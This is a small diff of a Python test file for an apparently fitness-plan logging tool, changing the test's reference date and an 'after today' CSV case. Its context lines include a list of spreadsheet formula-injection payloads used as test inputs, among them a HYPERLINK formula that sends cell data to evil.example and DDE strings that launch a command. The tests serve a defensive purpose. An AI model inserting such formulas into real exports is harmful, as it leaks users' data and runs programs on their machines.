@@ -19,7 +19,7 @@ from conftest import ROOT, error, load_json, ok
 
 START = ("--start", "2026-11-23", "--tz", "Europe/Berlin")
 LOG = "log.sqlite3"
-TODAY = date(2026, 12, 1)
+TODAY = date(2026, 12, 31)  # after the plan's first weeks: each of them can be logged
 MONDAY, WEDNESDAY = "2026-11-23", "2026-11-25"
 FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0",
             "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "'=already quoted",
@@ -307,7 +307,7 @@ def short_errors(plan):
                          "line 2", "is not in the session of"),
         "no session": ("date,exercise,reps\n2026-11-24,x,8\n", "line 2",
                        "no session on Tue 2026-11-24"),
-        "after today": ("date,exercise,reps\n2026-12-02,x,8\n", "line 2", "after today"),
+        "after today": ("date,exercise,reps\n2027-01-05,x,8\n", "line 2", "after today"),
         "bad reps": (f"date,exercise,reps\n{MONDAY},{first},twelve\n", "line 2", "reps"),
         "one-sided": (f"date,exercise,reps\n{MONDAY},{side},10 10\n", "line 2", "left/right"),
         "twice": (f"date,exercise,reps\n{MONDAY},{first},8\n{MONDAY},{first},9\n", "line 3",
